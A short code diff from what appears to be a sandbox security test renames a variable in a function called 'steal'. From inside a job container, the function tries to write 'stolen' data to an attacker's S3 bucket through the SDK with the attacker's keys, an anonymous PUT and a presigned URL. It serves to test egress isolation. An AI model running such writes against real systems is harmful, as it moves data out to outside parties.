@@ -141,8 +141,8 @@ def site(product: Product) -> Site:
 def steal(worker: int, attacker: Attacker) -> list[Any]:
     """Write to the stranger's bucket from a job in three ways; return whether the SDK succeeded, and two statuses."""
     parameters = {"Bucket": attacker.bucket, "Key": "foreign", "Body": "stolen"}
-    asked = json.dumps(["s3", "put_object", parameters, None, attacker.keys])
-    foreign = json.loads(run_in_container(worker, CALL, asked, as_job=True))
+    request = json.dumps(["s3", "put_object", parameters, None, attacker.keys])
+    foreign = json.loads(run_in_container(worker, CALL, request, as_job=True))
     anonymous = f"{S3_URL}/{attacker.bucket}/anonymous"
     said = run_in_container(worker, PUT, anonymous, attacker.presigned("presigned"), as_job=True)
     return [foreign[0] == "answered", *(int(line) for line in said.split())]
